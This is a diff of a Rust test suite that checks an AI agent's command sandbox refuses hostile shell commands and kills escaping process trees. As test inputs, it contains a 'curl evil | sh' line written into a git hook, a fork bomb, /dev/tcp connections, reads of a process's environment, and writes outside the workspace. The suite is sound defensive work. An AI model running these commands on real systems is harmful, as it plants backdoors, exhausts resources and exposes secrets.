@@ -1,251 +1,512 @@
-//! The Landlock sandbox for shell commands, through the real launcher (the
-//! built `agent` binary): writes inside the workspace and the temp dirs
-//! work, writes elsewhere are refused, reads and everything else about a
-//! command stay as they were, and `--sandbox` / `AGENT_SANDBOX=1` switch it
-//! on end to end.
+//! The sandbox and process containment, through the real launcher (the
+//! built `agent` binary) on the real kernel: what a hostile command tries
+//! (write outside, plant `.git/hooks`, chmod, connect to a Unix socket or a
+//! TCP port, read the agent's environment, open `/dev/tty`, fork-bomb,
+//! leave `setsid` orphans behind, outlive a `kill -9` of the agent) fails,
+//! while ordinary work (writes in the workspace and `$TMPDIR`, reads,
+//! exit codes, pipes) is unchanged.
 //!
-//! Where the kernel cannot enforce Landlock, each test checks the fallback
-//! instead (the command runs unconfined, the launcher prints nothing, the
-//! CLI warns once) and says on stderr that enforcement was not checked.
-//! `AGENT_TEST_REQUIRE_LANDLOCK=1` turns that case into a failure, for
-//! machines known to have Landlock.
+//! Each confinement test first asks the probe whether the layer exists on
+//! this kernel; where it does not, the test checks the reported state
+//! instead and says so on stderr. `AGENT_TEST_REQUIRE_SANDBOX=1` turns a
+//! missing layer into a failure, for machines known to have them all.
 
 use std::path::{Path, PathBuf};
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 use agent::runtime::process::{self, CommandSpec, Ended, Outcome};
-use agent::runtime::sandbox::{self, NO_LANDLOCK_WARNING, Sandbox};
+use agent::runtime::sandbox::{self, Sandbox, SandboxReport, SandboxSettings};
+use agent::runtime::{Confinement, RunError, Runtime};
 use tokio_util::sync::CancellationToken;
 
 use crate::common::mock::{MockServer, Reply, Shape};
 use crate::common::{Dirs, STEP_TIMEOUT, agent_command, output, stderr};
 
-/// The variable that makes a missing Landlock a test failure.
-const REQUIRE_LANDLOCK: &str = "AGENT_TEST_REQUIRE_LANDLOCK";
+/// The variable that makes a missing layer a test failure.
+const REQUIRE_SANDBOX: &str = "AGENT_TEST_REQUIRE_SANDBOX";
+
+/// How long a killed tree may take to disappear from `/proc`.
+const GONE_DEADLINE: Duration = Duration::from_secs(10);
 
 fn launcher() -> PathBuf {
     PathBuf::from(env!("CARGO_BIN_EXE_agent"))
 }
 
-/// Whether this kernel enforces the sandbox. When it does not, says so on
-/// stderr (the test then checks the fallback), or fails when Landlock is
-/// required.
-fn enforced(test: &str) -> bool {
-    match sandbox::probe(&launcher()) {
-        Ok(_abi) => true,
-        Err(e) => {
-            assert!(
-                std::env::var_os(REQUIRE_LANDLOCK).is_none(),
-                "{REQUIRE_LANDLOCK} is set but the sandbox is unavailable: {e}"
-            );
-            eprintln!(
-                "note: {test}: no usable Landlock here ({e}); checked the fallback only, enforcement was NOT tested"
-            );
-            false
-        }
-    }
+fn report() -> SandboxReport {
+    sandbox::probe(&launcher())
 }
 
-/// A directory outside every writable dir of an agent sandbox: under
-/// cargo's target dir, not under `/tmp`. `None` (with a note) when this
-/// build's target dir is itself inside a temp dir.
-fn outside_dir(test: &str, sandbox: &Sandbox) -> Option<tempfile::TempDir> {
-    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("tempdir in target");
-    let real = dir.path().canonicalize().expect("canonical outside dir");
-    let inside = sandbox
-        .writable
-        .iter()
-        .filter_map(|w| w.canonicalize().ok())
-        .find(|w| real.starts_with(w));
-    match inside {
-        None => Some(dir),
-        Some(w) => {
-            eprintln!(
-                "note: {test}: the target dir {} is inside the writable {}; skipped (the workspace-only test still covers refusal)",
-                env!("CARGO_TARGET_TMPDIR"),
-                w.display()
-            );
-            None
-        }
+/// Whether every layer the test needs is there. When one is not, says so
+/// on stderr (the test then checks the report), or fails when required.
+fn layers_present(test: &str, report: &SandboxReport, network: bool) -> bool {
+    let missing = report.missing_required(network);
+    if missing.is_empty() {
+        return true;
     }
+    assert!(
+        std::env::var_os(REQUIRE_SANDBOX).is_none(),
+        "{REQUIRE_SANDBOX} is set but layers are missing: {missing:?}"
+    );
+    eprintln!(
+        "note: {test}: missing here: {}; checked the report only, enforcement was NOT tested",
+        missing.join(", ")
+    );
+    false
 }
 
-fn spec(command: &str, workspace: &Path, sandbox: Option<Sandbox>) -> CommandSpec {
-    CommandSpec {
-        command: command.to_string(),
-        cwd: workspace.to_path_buf(),
-        env: vec![("PATH".into(), std::env::var("PATH").unwrap_or_default())],
-        timeout: Duration::from_secs(10),
-        inactivity_timeout: Duration::from_secs(10),
-        kill_grace: Duration::from_millis(500),
-        output_cap: 30_000,
-        spill_dir: workspace.join(".spill"),
-        label: "call-1".into(),
+/// A workspace and a private temp dir, and the session sandbox over them.
+struct Setup {
+    _root: tempfile::TempDir,
+    workspace: PathBuf,
+    temp: PathBuf,
+    sandbox: Sandbox,
+}
+
+fn setup_with(settings: SandboxSettings) -> Setup {
+    let root = tempfile::tempdir().expect("root");
+    let workspace = root.path().join("ws");
+    let temp = root.path().join("tmp");
+    std::fs::create_dir_all(workspace.join(".git/hooks")).unwrap();
+    std::fs::write(workspace.join(".git/config"), "[core]\n").unwrap();
+    std::fs::create_dir_all(&temp).unwrap();
+    let sandbox = Sandbox::for_session(launcher(), &settings, &report(), &workspace, &temp, &[]);
+    Setup {
+        _root: root,
+        workspace,
+        temp,
         sandbox,
     }
 }
 
-async fn run(command: &str, workspace: &Path, sandbox: &Sandbox) -> Outcome {
-    let spec = spec(command, workspace, Some(sandbox.clone()));
-    tokio::time::timeout(STEP_TIMEOUT, process::run(spec, CancellationToken::new()))
+fn setup() -> Setup {
+    setup_with(SandboxSettings::default())
+}
+
+/// A directory outside every writable dir: under cargo's target dir.
+fn outside_dir() -> tempfile::TempDir {
+    tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("tempdir in target")
+}
+
+fn spec(command: &str, s: &Setup) -> CommandSpec {
+    CommandSpec {
+        command: command.to_string(),
+        cwd: s.workspace.clone(),
+        env: vec![
+            ("PATH".into(), std::env::var("PATH").unwrap_or_default()),
+            ("TMPDIR".into(), s.temp.display().to_string()),
+        ],
+        timeout: Duration::from_secs(20),
+        inactivity_timeout: Duration::from_secs(20),
+        kill_grace: Duration::from_millis(500),
+        output_cap: 30_000,
+        spill_dir: s.temp.join("spill-not-used"),
+        label: "call-1".into(),
+        sandbox: Some(s.sandbox.clone()),
+    }
+}
+
+async fn run_spec(spec: CommandSpec, cancel: CancellationToken) -> Outcome {
+    tokio::time::timeout(STEP_TIMEOUT, process::run(spec, cancel))
         .await
         .expect("the command finished in time")
         .expect("the command started")
 }
 
-fn agent_sandbox(workspace: &Path) -> Sandbox {
-    Sandbox::for_workspace(launcher(), workspace, &workspace.join(".spill"))
+async fn run(command: &str, s: &Setup) -> Outcome {
+    run_spec(spec(command, s), CancellationToken::new()).await
 }
 
 fn quote(path: &Path) -> String {
     format!("'{}'", path.display())
 }
 
+/// A marker unique to this test run, for finding processes by argv.
+fn marker(n: u32) -> String {
+    format!("{n}.{}", std::process::id())
+}
+
+/// Live processes whose argv contains `needle` (zombies have none).
+fn with_argv(needle: &str) -> Vec<String> {
+    let Ok(entries) = std::fs::read_dir("/proc") else {
+        return Vec::new();
+    };
+    entries
+        .flatten()
+        .filter_map(|e| {
+            let argv = std::fs::read(e.path().join("cmdline")).ok()?;
+            let argv = String::from_utf8_lossy(&argv).replace('\0', " ");
+            argv.contains(needle)
+                .then(|| format!("{}: {argv}", e.file_name().to_string_lossy()))
+        })
+        .collect()
+}
+
+async fn wait_until(what: &str, mut done: impl FnMut() -> bool) {
+    let deadline = Instant::now() + GONE_DEADLINE;
+    while !done() {
+        assert!(Instant::now() < deadline, "timed out waiting: {what}");
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+}
+
+async fn assert_none_left(needle: &str) {
+    wait_until(&format!("processes with {needle} to die"), || {
+        with_argv(needle).is_empty()
+    })
+    .await;
+}
+
+fn refused(out: &Outcome) -> bool {
+    let e = &out.stderr.text;
+    out.exit_code != Some(0)
+        && (e.contains("Permission denied")
+            || e.contains("Read-only file system")
+            || e.contains("Operation not permitted")
+            || e.contains("Device or resource busy"))
+}
+
 #[tokio::test]
-async fn writes_inside_the_workspace_and_temp_dirs_succeed() {
-    let on = enforced("writes_inside");
-    let ws = tempfile::tempdir().expect("workspace");
-    let sandbox = agent_sandbox(ws.path());
+async fn writes_inside_the_workspace_and_tmpdir_succeed() {
+    let s = setup();
     let out = run(
         "echo one > f && mkdir -p d/e && mv f d/e/g && ln -s d/e/g link && cat link \
-         && rm -r d link && echo kept > kept && truncate -s 2 kept \
-         && t=$(mktemp) && echo x > \"$t\" && rm \"$t\" \
-         && t=$(mktemp -p /tmp) && rm \"$t\" && echo quiet > /dev/null && echo done",
-        ws.path(),
-        &sandbox,
+         && rm -r d link && echo kept > kept && truncate -s 2 kept && chmod 600 kept \
+         && touch -d 2001-01-01 kept && t=$(mktemp) && echo x > \"$t\" && rm \"$t\" \
+         && echo quiet > /dev/null && echo done",
+        &s,
     )
     .await;
     assert_eq!(
         (out.exit_code, out.stderr.text.as_str()),
         (Some(0), ""),
-        "confined={on}"
+        "{out:?}"
     );
     assert_eq!(out.stdout.text, "one\ndone\n");
     assert_eq!(
-        std::fs::read_to_string(ws.path().join("kept")).unwrap(),
+        std::fs::read_to_string(s.workspace.join("kept")).unwrap(),
         "ke"
     );
 }
 
 #[tokio::test]
-async fn writes_outside_the_workspace_and_temp_dirs_fail() {
-    let on = enforced("writes_outside");
-    let ws = tempfile::tempdir().expect("workspace");
-    let sandbox = agent_sandbox(ws.path());
-    let Some(outside) = outside_dir("writes_outside", &sandbox) else {
-        return;
-    };
+async fn writes_chmod_and_utime_outside_fail() {
+    let s = setup();
+    let on = layers_present("writes_outside", &report(), false);
+    let outside = outside_dir();
     let existing = outside.path().join("existing");
     std::fs::write(&existing, "original").unwrap();
-    std::fs::write(ws.path().join("mine"), "mine").unwrap();
+    std::fs::write(s.workspace.join("mine"), "mine").unwrap();
     let o = quote(outside.path());
     let attempts = [
         format!("echo x > {o}/new"),
-        format!("echo x > {o}/existing"),
         format!("echo x >> {o}/existing"),
         format!("truncate -s 0 {o}/existing"),
         format!("rm {o}/existing"),
         format!("mv {o}/existing ./stolen"),
         format!("mkdir {o}/dir"),
         format!("ln -s /etc/passwd {o}/link"),
-        format!("cp mine {o}/copy"),
         format!("mv mine {o}/moved"),
-        // Grandchildren inherit the restriction.
+        format!("chmod 777 {o}/existing"),
+        format!("chown 12345 {o}/existing"),
+        format!("touch -d 2001-01-01 {o}/existing"),
+        // /tmp is not the private temp dir: outside too.
+        "echo x > /tmp/agent-sandbox-test-escape".to_string(),
+        // Grandchildren inherit every layer.
         format!("sh -c 'echo x > {o}/from-grandchild'"),
     ];
+    let before = std::fs::metadata(&existing).unwrap();
     for command in &attempts {
-        let out = run(command, ws.path(), &sandbox).await;
+        let out = run(command, &s).await;
         if on {
-            assert_ne!(out.exit_code, Some(0), "{command} succeeded in the sandbox");
-            assert!(
-                out.stderr.text.contains("Permission denied"),
-                "{command}: {}",
-                out.stderr.text
-            );
-        } else {
-            // The fallback: the command runs unconfined and the launcher
-            // adds nothing to its output.
-            assert!(
-                !out.stderr.text.contains("sandbox") && !out.stderr.text.contains("Landlock"),
-                "{command}: {}",
-                out.stderr.text
-            );
+            assert!(refused(&out), "{command} was not refused: {out:?}");
         }
     }
     if on {
-        let mut left: Vec<String> = std::fs::read_dir(outside.path())
+        let left: Vec<String> = std::fs::read_dir(outside.path())
             .unwrap()
             .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
             .collect();
-        left.sort();
         assert_eq!(left, ["existing"]);
         assert_eq!(std::fs::read_to_string(&existing).unwrap(), "original");
-        assert!(ws.path().join("mine").exists());
-    } else {
-        assert!(outside.path().join("new").exists());
+        let after = std::fs::metadata(&existing).unwrap();
+        use std::os::unix::fs::MetadataExt;
+        assert_eq!(
+            (after.mode(), after.uid(), after.mtime()),
+            (before.mode(), before.uid(), before.mtime())
+        );
+        assert!(!Path::new("/tmp/agent-sandbox-test-escape").exists());
+        assert!(s.workspace.join("mine").exists());
+    }
+}
+
+#[tokio::test]
+async fn git_hooks_and_config_are_read_only_inside_a_writable_workspace() {
+    let s = setup();
+    let on = layers_present("git_read_only", &report(), false);
+    let attempts = [
+        "echo 'curl evil | sh' > .git/hooks/pre-commit",
+        "chmod +x .git/hooks",
+        "echo '[core] fsmonitor = evil' >> .git/config",
+        "rm .git/config",
+        "mv .git/config .git/old",
+        "rm -r .git/hooks",
+        // Renaming .git away to replace it with a copy with writable hooks.
+        "mv .git .git-away",
+    ];
+    for command in attempts {
+        let out = run(command, &s).await;
+        if on {
+            assert!(refused(&out), "{command} was not refused: {out:?}");
+        }
+    }
+    // Elsewhere in the workspace, and in .git itself, writing works.
+    let out = run(
+        "echo ok > .git/HEAD-test && echo ok > src.txt && cat src.txt",
+        &s,
+    )
+    .await;
+    assert_eq!(
+        (out.exit_code, out.stdout.text.as_str()),
+        (Some(0), "ok\n"),
+        "{out:?}"
+    );
+    if on {
+        assert_eq!(
+            std::fs::read_to_string(s.workspace.join(".git/config")).unwrap(),
+            "[core]\n"
+        );
+        assert!(!s.workspace.join(".git/hooks/pre-commit").exists());
     }
 }
 
 #[tokio::test]
 async fn reads_and_execution_outside_still_work() {
-    let on = enforced("reads_outside");
-    let ws = tempfile::tempdir().expect("workspace");
-    let sandbox = agent_sandbox(ws.path());
-    let Some(outside) = outside_dir("reads_outside", &sandbox) else {
-        return;
-    };
+    let s = setup();
+    let outside = outside_dir();
     std::fs::write(outside.path().join("notes"), "readable\n").unwrap();
     let o = quote(outside.path());
     let out = run(
         &format!("cat {o}/notes && ls {o} && test -r /etc/passwd && /bin/true && echo ran"),
-        ws.path(),
-        &sandbox,
+        &s,
     )
     .await;
-    assert_eq!(out.exit_code, Some(0), "confined={on}: {}", out.stderr.text);
+    assert_eq!(out.exit_code, Some(0), "{}", out.stderr.text);
     assert_eq!(out.stdout.text, "readable\nnotes\nran\n");
 }
 
+/// Connects to a pathname Unix socket with perl; prints "connected".
+fn unix_connect(path: &Path) -> String {
+    format!(
+        "perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => $ARGV[0]) or die \"connect: $!\\n\"; print \"connected\\n\"' {}",
+        quote(path)
+    )
+}
+
 #[tokio::test]
-async fn a_workspace_only_sandbox_refuses_the_temp_dir_too() {
-    // Hermetic: with only the workspace writable, a sibling dir in /tmp is
-    // "outside", wherever cargo's target dir is.
-    let on = enforced("workspace_only");
-    let ws = tempfile::tempdir().expect("workspace");
-    let other = tempfile::tempdir().expect("other dir");
-    let sandbox = Sandbox::new(launcher(), vec![ws.path().to_path_buf()]);
-    let target = other.path().join("f");
+async fn unix_socket_connect_fails_unless_the_network_is_on() {
+    let report = report();
+    let on = layers_present("unix_socket", &report, false);
+    let outside = outside_dir();
+    let path = outside.path().join("agent.sock");
+    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
+    listener.set_nonblocking(true).unwrap();
+
+    let s = setup();
+    let out = run(&unix_connect(&path), &s).await;
+    if on {
+        assert_ne!(out.exit_code, Some(0), "{out:?}");
+        assert!(out.stderr.text.contains("connect: "), "{out:?}");
+        assert!(listener.accept().is_err(), "a connection got through");
+    } else {
+        assert!(report.seccomp.is_some() || report.namespaces.is_some());
+    }
+
+    // The same command with `network: true` connects: the tool works, and
+    // the sandbox is what refused it above.
+    let open = setup_with(SandboxSettings {
+        network: true,
+        ..SandboxSettings::default()
+    });
+    let out = run(&unix_connect(&path), &open).await;
+    assert_eq!(out.stdout.text, "connected\n", "{out:?}");
+}
+
+#[tokio::test]
+async fn tcp_connect_to_localhost_fails_unless_the_network_is_on() {
+    let report = report();
+    let on = layers_present("tcp", &report, false);
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    listener.set_nonblocking(true).unwrap();
+    let command = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
+
+    let s = setup();
+    let out = run(&command, &s).await;
+    if on {
+        assert_ne!(out.exit_code, Some(0), "{out:?}");
+        assert_eq!(out.stdout.text, "");
+        assert!(listener.accept().is_err(), "a connection got through");
+    }
+    let open = setup_with(SandboxSettings {
+        network: true,
+        ..SandboxSettings::default()
+    });
+    let out = run(&command, &open).await;
+    assert_eq!(out.stdout.text, "connected\n", "{out:?}");
+}
+
+#[tokio::test]
+async fn a_command_cannot_see_the_agent_or_read_its_environment() {
+    let report = report();
+    let s = setup();
+    let me = std::process::id();
     let out = run(
-        &format!("echo in > inside; echo out > {}", quote(&target)),
-        ws.path(),
-        &sandbox,
+        &format!(
+            "test -e /proc/{me} && echo visible; cat /proc/{me}/environ >/dev/null 2>&1 && echo read; \
+             kill -0 {me} 2>/dev/null && echo signalled; ls /proc | grep -c '^[0-9]'"
+        ),
+        &s,
     )
     .await;
-    assert_eq!(
-        std::fs::read_to_string(ws.path().join("inside")).unwrap(),
-        "in\n"
-    );
-    if on {
-        assert_eq!(out.exit_code, Some(1));
-        assert!(
-            out.stderr.text.contains("Permission denied"),
-            "{}",
-            out.stderr.text
-        );
-        assert!(!target.exists());
+    if report.namespaces.is_none() {
+        let lines: Vec<&str> = out.stdout.text.lines().collect();
+        // Only the namespace's own processes: the init, bash, ls, grep.
+        assert_eq!(lines.len(), 1, "{out:?}");
+        let count: u32 = lines[0].parse().unwrap();
+        assert!(count <= 5, "{count} processes visible");
     } else {
-        assert_eq!(out.exit_code, Some(0), "{}", out.stderr.text);
-        assert!(target.exists());
+        eprintln!("note: agent_environ: no namespaces here; checked the report only");
     }
 }
 
 #[tokio::test]
-async fn the_launcher_keeps_exit_codes_env_stdin_pipes_and_limits() {
-    enforced("launcher_transparent");
-    let ws = tempfile::tempdir().expect("workspace");
-    let sandbox = agent_sandbox(ws.path());
+async fn dev_tty_cannot_be_opened() {
+    let s = setup();
+    let out = run("exec 3<>/dev/tty && echo opened", &s).await;
+    assert_ne!(out.exit_code, Some(0), "{out:?}");
+    assert_eq!(out.stdout.text, "");
+    assert!(out.stderr.text.contains("No such device"), "{out:?}");
+}
 
-    let out = run("echo out; echo err >&2; exit 3", ws.path(), &sandbox).await;
+/// A command that leaves three kinds of processes behind: a plain
+/// background job, a double-forked one, and one in its own session.
+fn escaping_tree(m: &str) -> String {
+    format!("(sleep {m}1 &); setsid sleep {m}2 & sleep {m}3 & echo started; wait")
+}
+
+#[tokio::test]
+async fn setsid_and_double_forked_grandchildren_die_on_timeout() {
+    let s = setup();
+    let m = marker(3101);
+    let mut spec = spec(&escaping_tree(&m), &s);
+    spec.timeout = Duration::from_millis(1500);
+    let out = run_spec(spec, CancellationToken::new()).await;
+    assert_eq!(out.ended, Ended::TimedOut, "{out:?}");
+    assert_eq!(out.stdout.text, "started\n");
+    assert_none_left(&m).await;
+}
+
+#[tokio::test]
+async fn setsid_and_double_forked_grandchildren_die_on_cancel() {
+    let s = setup();
+    let m = marker(3201);
+    let cancel = CancellationToken::new();
+    let run = tokio::spawn(run_spec(spec(&escaping_tree(&m), &s), cancel.clone()));
+    let needle = format!("sleep {m}2");
+    wait_until("the tree to start", || !with_argv(&needle).is_empty()).await;
+    cancel.cancel();
+    let out = tokio::time::timeout(STEP_TIMEOUT, run)
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(out.ended, Ended::Cancelled);
+    assert_none_left(&m).await;
+}
+
+#[tokio::test]
+async fn dropping_the_run_kills_the_tree() {
+    let s = setup();
+    let m = marker(3301);
+    let fut = tokio::spawn(run_spec(
+        spec(&escaping_tree(&m), &s),
+        CancellationToken::new(),
+    ));
+    let needle = format!("sleep {m}2");
+    wait_until("the tree to start", || !with_argv(&needle).is_empty()).await;
+    fut.abort();
+    assert_none_left(&m).await;
+}
+
+#[tokio::test]
+async fn background_processes_end_with_their_command() {
+    let s = setup();
+    let m = marker(3401);
+    let out = run(
+        &format!("setsid sleep {m} > /dev/null 2>&1 & echo done"),
+        &s,
+    )
+    .await;
+    assert_eq!(
+        (out.exit_code, out.stdout.text.as_str()),
+        (Some(0), "done\n")
+    );
+    assert_none_left(&m).await;
+}
+
+#[tokio::test]
+async fn a_fork_bomb_is_a_clear_failure_and_leaves_nothing_running() {
+    let s = setup_with(SandboxSettings {
+        max_processes: 64,
+        ..SandboxSettings::default()
+    });
+    let m = marker(3501);
+    let command = format!("bomb() {{ bomb | bomb & }}; bomb; sleep 60 # {m}");
+    let out = run(&command, &s).await;
+    // Never "ok": either the init's count stopped it at the limit (the
+    // usual case, with the message), or the kernel's task limit held it
+    // until the wall clock did.
+    assert_ne!(out.exit_code, Some(0), "{out:?}");
+    if out.ended == Ended::Exited {
+        assert_eq!(
+            out.exit_code,
+            Some(i32::from(sandbox::PROCESS_LIMIT_EXIT)),
+            "{out:?}"
+        );
+        assert!(
+            out.stderr
+                .text
+                .contains(&sandbox::process_limit_message(64)),
+            "{}",
+            out.stderr.text
+        );
+    } else {
+        assert_eq!(out.ended, Ended::TimedOut, "{out:?}");
+        eprintln!(
+            "note: fork bomb: held by RLIMIT_NPROC until the timeout, not stopped at the count"
+        );
+    }
+    assert_none_left(&m).await;
+}
+
+#[tokio::test]
+async fn the_memory_limit_stops_a_large_allocation() {
+    let s = setup_with(SandboxSettings {
+        max_memory_mb: 64,
+        ..SandboxSettings::default()
+    });
+    let out = run(
+        "x=$(head -c 300000000 /dev/zero | tr '\\0' a); echo ${#x}",
+        &s,
+    )
+    .await;
+    assert_ne!(out.stdout.text, "300000000\n", "{out:?}");
+    assert_ne!(out.exit_code, Some(0), "{out:?}");
+}
+
+#[tokio::test]
+async fn the_launcher_keeps_exit_codes_env_stdin_pipes_and_signals() {
+    let s = setup();
+    let out = run("echo out; echo err >&2; exit 3", &s).await;
     assert_eq!(
         (
             out.exit_code,
@@ -254,54 +515,36 @@ async fn the_launcher_keeps_exit_codes_env_stdin_pipes_and_limits() {
         ),
         (Some(3), "out\n", "err\n")
     );
-
-    // Only the given environment; stdin closed; the shell's pid is the
-    // process group leader, as without the launcher.
-    let out = run(
-        "env | cut -d= -f1 | sort | tr '\\n' ' '; echo; cat; \
-         read -r _ _ _ _ pgid _ < /proc/$$/stat; echo \"$pgid $$\"",
-        ws.path(),
-        &sandbox,
-    )
-    .await;
-    let lines: Vec<&str> = out.stdout.text.lines().collect();
-    assert_eq!(lines.len(), 2, "{lines:?}");
-    assert!(
-        !lines[0].contains("HOME") && lines[0].contains("PATH"),
-        "{lines:?}"
-    );
-    let (pgid, pid) = lines[1].split_once(' ').unwrap();
-    assert_eq!(pgid, pid, "the shell leads its own process group");
-
-    // Arguments that look like the launcher's own reach the command as is.
-    let out = run("echo -- --write /x -p", ws.path(), &sandbox).await;
-    assert_eq!(out.stdout.text, "-- --write /x -p\n");
-
-    // SIGPIPE is back to its default for the command, as in a terminal.
-    let out = run("yes | head -n 2", ws.path(), &sandbox).await;
+    let out = run("env | cut -d= -f1 | sort | tr '\\n' ' '; echo; cat", &s).await;
+    assert_eq!(out.stdout.text, "PATH PWD SHLVL TMPDIR _ \n", "{out:?}");
+    let out = run("echo -- --write /x --confine", &s).await;
+    assert_eq!(out.stdout.text, "-- --write /x --confine\n");
+    let out = run("yes | head -n 2", &s).await;
     assert_eq!(
         (out.exit_code, out.stdout.text.as_str()),
         (Some(0), "y\ny\n")
     );
+    // A command killed by a signal is reported as killed by it.
+    let out = run("kill -TERM $$", &s).await;
+    assert_eq!(out.signal, Some(15), "{out:?}");
 
-    let mut s = spec("echo start; sleep 30", ws.path(), Some(sandbox.clone()));
-    s.timeout = Duration::from_millis(500);
-    let t0 = std::time::Instant::now();
-    let out = tokio::time::timeout(STEP_TIMEOUT, process::run(s, CancellationToken::new()))
-        .await
-        .unwrap()
-        .unwrap();
+    let mut sp = spec("echo start; sleep 30", &s);
+    sp.timeout = Duration::from_millis(500);
+    let out = run_spec(sp, CancellationToken::new()).await;
     assert_eq!(out.ended, Ended::TimedOut);
     assert_eq!(out.stdout.text, "start\n");
-    assert!(t0.elapsed() < Duration::from_secs(5), "{:?}", t0.elapsed());
+    assert_eq!(out.signal, Some(15), "SIGTERM reached the command first");
 }
 
 #[tokio::test]
 async fn a_missing_launcher_is_a_start_error() {
-    let ws = tempfile::tempdir().expect("workspace");
-    let sandbox = Sandbox::new(PathBuf::from("/nonexistent/agent"), Vec::new());
-    let spec = spec("true", ws.path(), Some(sandbox));
-    let result = tokio::time::timeout(STEP_TIMEOUT, process::run(spec, CancellationToken::new()))
+    let s = setup();
+    let mut sp = spec("true", &s);
+    sp.sandbox = Some(Sandbox::new(
+        PathBuf::from("/nonexistent/agent"),
+        Vec::new(),
+    ));
+    let result = tokio::time::timeout(STEP_TIMEOUT, process::run(sp, CancellationToken::new()))
         .await
         .unwrap();
     assert!(result.is_err());
@@ -309,47 +552,108 @@ async fn a_missing_launcher_is_a_start_error() {
 
 #[tokio::test]
 async fn the_launcher_reports_a_missing_program_like_a_shell() {
-    let ws = tempfile::tempdir().expect("workspace");
     let out = tokio::time::timeout(
         STEP_TIMEOUT,
         tokio::process::Command::new(launcher())
-            .args(["sandbox-exec", "--write"])
-            .arg(ws.path())
-            .args(["--", "/nonexistent/program"])
+            .args(["sandbox-exec", "--", "/nonexistent/program"])
+            .stdin(std::process::Stdio::piped())
             .output(),
     )
     .await
     .unwrap()
     .unwrap();
     assert_eq!(out.status.code(), Some(127));
-    assert!(
-        String::from_utf8_lossy(&out.stderr).contains("cannot run /nonexistent/program"),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("cannot run /nonexistent/program"), "{err}");
+}
+
+fn runtime_for(s: &Setup, sandbox: Sandbox) -> Runtime {
+    let env = vec![(
+        "PATH".to_string(),
+        std::env::var("PATH").unwrap_or_default(),
+    )];
+    Runtime::new(s.workspace.clone(), s.temp.join("spill"), env).with_sandbox(sandbox)
+}
+
+#[tokio::test]
+async fn require_with_a_missing_layer_refuses_every_command() {
+    // An injected probe result stands in for a kernel without Landlock.
+    let s = setup();
+    let no_landlock = SandboxReport {
+        landlock_fs: Some("this kernel has no Landlock".into()),
+        ..report()
+    };
+    let settings = SandboxSettings {
+        mode: sandbox::SandboxMode::Require,
+        ..SandboxSettings::default()
+    };
+    let sandbox = Sandbox::for_session(
+        launcher(),
+        &settings,
+        &no_landlock,
+        &s.workspace,
+        &s.temp,
+        &[],
     );
+    let rt = runtime_for(&s, sandbox);
+    let cancel = CancellationToken::new();
+    let err = rt
+        .run_command("echo x > ran", None, "c1", &cancel)
+        .await
+        .unwrap_err();
+    let RunError::Denied(message) = err else {
+        panic!("not a refusal: {err:?}");
+    };
+    assert!(
+        message.contains("landlock fs (this kernel has no Landlock)"),
+        "{message}"
+    );
+    assert!(!s.workspace.join("ran").exists());
+}
+
+#[tokio::test]
+async fn one_command_can_leave_the_sandbox_and_stays_contained() {
+    let s = setup();
+    let rt = runtime_for(&s, s.sandbox.clone());
+    let outside = outside_dir();
+    let target = outside.path().join("let-out");
+    let m = marker(3601);
+    let command = format!(
+        "echo x > {}; setsid sleep {m} > /dev/null 2>&1 & echo ok",
+        quote(&target)
+    );
+    let cancel = CancellationToken::new();
+    let out = rt
+        .run_command_in(&command, None, "c1", &cancel, Confinement::Unsandboxed)
+        .await
+        .unwrap();
+    assert_eq!(out.stdout.text, "ok\n", "{out:?}");
+    assert!(
+        target.exists(),
+        "the unsandboxed command could not write outside"
+    );
+    assert_none_left(&m).await;
 }
 
 /// Runs the agent once with a model that asks for one shell command which
-/// writes inside the workspace and outside it; returns what the model was
-/// sent as the command's result, and the agent's stderr.
-async fn one_shot_write(
-    test: &str,
-    setup: impl FnOnce(&mut tokio::process::Command),
-) -> Option<(String, String)> {
+/// writes inside the workspace and outside it; returns the tool result and
+/// whether the outside write happened.
+async fn one_shot_write(policy: Option<&str>, args: &[&str]) -> (String, bool, String) {
     let dirs = Dirs::new();
-    let like_the_agent = Sandbox::for_workspace(launcher(), &dirs.workspace, &dirs.data);
-    let outside = outside_dir(test, &like_the_agent)?;
+    if let Some(policy) = policy {
+        std::fs::write(dirs.config.join("policy.rhai"), policy).unwrap();
+    }
+    let outside = outside_dir();
     let target = outside.path().join("escaped");
     let command = format!("echo in > inside; echo out > {}", quote(&target));
-    let args = serde_json::json!({ "command": command }).to_string();
+    let call = serde_json::json!({ "command": command }).to_string();
     let server = MockServer::start(vec![
-        Reply::tools(Shape::OpenAi, &[("c1", "run_shell", &args)]),
+        Reply::tools(Shape::OpenAi, &[("c1", "run_shell", &call)]),
         Reply::text("done"),
     ])
     .await;
     let mut cmd = agent_command(&dirs, &server.base_url);
-    cmd.args(["-p", "write two files"]);
-    setup(&mut cmd);
+    cmd.args(["-p", "write two files"]).args(args);
     let out = output(cmd).await;
     assert_eq!(out.status.code(), Some(0), "stderr: {}", stderr(&out));
     server.assert_protocol();
@@ -361,55 +665,65 @@ async fn one_shot_write(
         std::fs::read_to_string(dirs.workspace.join("inside")).unwrap(),
         "in\n"
     );
-    let escaped = target.exists();
-    let sent = format!("{sent}\n[escaped: {escaped}]");
-    Some((sent, stderr(&out)))
+    (sent, target.exists(), stderr(&out))
 }
 
-fn assert_cli_outcome(on: bool, sent: &str, err: &str) {
+#[tokio::test]
+async fn by_default_the_cli_confines_run_shell() {
+    let on = layers_present("cli_default", &report(), false);
+    let (sent, escaped, err) = one_shot_write(None, &[]).await;
     if on {
-        assert!(sent.contains("Permission denied"), "{sent}");
-        assert!(sent.ends_with("[escaped: false]"), "{sent}");
-        assert!(!err.contains("Landlock"), "{err}");
+        assert!(!escaped, "{sent}");
+        assert!(
+            sent.contains("Read-only file system") || sent.contains("Permission denied"),
+            "{sent}"
+        );
+        assert!(!err.contains("missing"), "{err}");
     } else {
